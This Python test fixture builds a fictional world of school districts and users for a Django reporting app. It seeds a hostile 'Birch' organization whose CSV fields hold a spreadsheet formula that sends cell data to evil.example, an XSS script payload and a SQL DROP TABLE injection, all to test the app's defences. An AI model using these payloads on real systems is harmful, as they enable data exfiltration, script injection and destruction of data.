"""The named world of the tests: Alder is ours, Birch is not, and one person for each role.

Everything is made through the actions that make it in earnest. Birch is hostile: whatever text it
may choose is a payload.
"""

import datetime as dt
import io
from dataclasses import dataclass

from django.conf import settings
from django.db import transaction

from scoreport import access
from scoreport.access import Actor, Role
from scoreport.accounts.actions import create_person
from scoreport.accounts.rules import PersonInfo
from scoreport.audit.actions import record
from scoreport.audit.rules import Verb
from scoreport.organizations.actions import grant_role, load_organizations
from scoreport.organizations.intake import compare, read, store
from scoreport.organizations.queries import actor_of, find
from scoreport.organizations.rules import OrganizationInfo

AT = dt.datetime(2026, 11, 21, 12, 0, tzinfo=dt.timezone(dt.timedelta(hours=-5)))
OPERATOR = access.command("tests")

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Birch High")'
MARKUP = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
SQL = "Birch'); DROP TABLE users;--"


def _cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


ORGANIZATIONS = f"""\
kind,organization_id,name,parent_id,ai_code,city,state,zip
state,ST,State of Juniper,,,Juniper,WV,25301
district,D-ALDER,Alder School District,ST,,Alder,WV,25310
school,ALDER-HIGH,Alder High School,D-ALDER,470001,Alder,WV,25310
school,ALDER-EARLY,Alder Early College,D-ALDER,000905,Alder,WV,25310
district,D-BIRCH,{_cell(MARKUP)},ST,,{_cell(SQL)},WV,25320
school,BIRCH-HIGH,{_cell(FORMULA)},D-BIRCH,470101,{_cell(SQL)},WV,25320
"""

# Name of the person → their role and where they hold it. Nora holds none, bea belongs to Birch.
ROLES: dict[str, tuple[Role, str | None] | None] = {
    "amy": (Role.DETAILED_REPORTS, "ALDER-HIGH"),
    "bea": (Role.DETAILED_REPORTS, "BIRCH-HIGH"),
    "dan": (Role.DETAILED_REPORTS, "D-ALDER"),
    "fay": (Role.FILE_DOWNLOADS, "D-ALDER"),
    "max": (Role.ACCESS_MANAGER, "ALDER-HIGH"),
    "nora": None,
    "pat": (Role.PROGRAM_STAFF, None),
    "sam": (Role.DETAILED_REPORTS, "ST"),
    "sue": (Role.SUMMARY_REPORTS, "ALDER-HIGH"),
}


@dataclass(frozen=True)
class World:
    """Organizations by their id, people by their first name."""

    people: dict[str, PersonInfo]

    @staticmethod
    def organization(code: str) -> OrganizationInfo:
        """Return an organization as it is stored now."""
        return find(code)

    def actor(self, name: str, *, second_factor: bool = True, at: dt.datetime = AT) -> Actor:
        """Return a person of the world as they may act now, just signed in."""
        return actor_of(self.people[name].id, second_factor=second_factor, signed_in_at=at, address="192.0.2.1", at=at)


def load(text: str, *, at: dt.datetime = AT, reverting: bool = True):
    """Load organizations from text, by default with the rows that would be held."""
    return load_organizations(OPERATOR, file=io.BytesIO(text.encode()), at=at, reverting=reverting)


def plant(text: str) -> None:
    """Store organizations as if they had been there before files could be undone: without a file."""
    plan = compare(read(io.BytesIO(text.encode())), {}, default_zone=settings.TIME_ZONE)
    with transaction.atomic():
        store(plan)
        record(OPERATOR, verb=Verb.ORGANIZATIONS_LOADED, at=AT, new=len(plan.new), changed=0, same=0)


def build() -> World:
    """Store the whole world."""
    plant(ORGANIZATIONS)
    people = {}
    for name, held in ROLES.items():
        people[name] = create_person(OPERATOR, email=f"{name}@juniper.example", name=name.title(), at=AT)
        if held:
            role, organization = held
            grant_role(OPERATOR, email=f"{name}@juniper.example", organization=organization, role=role, at=AT)
    return World(people)
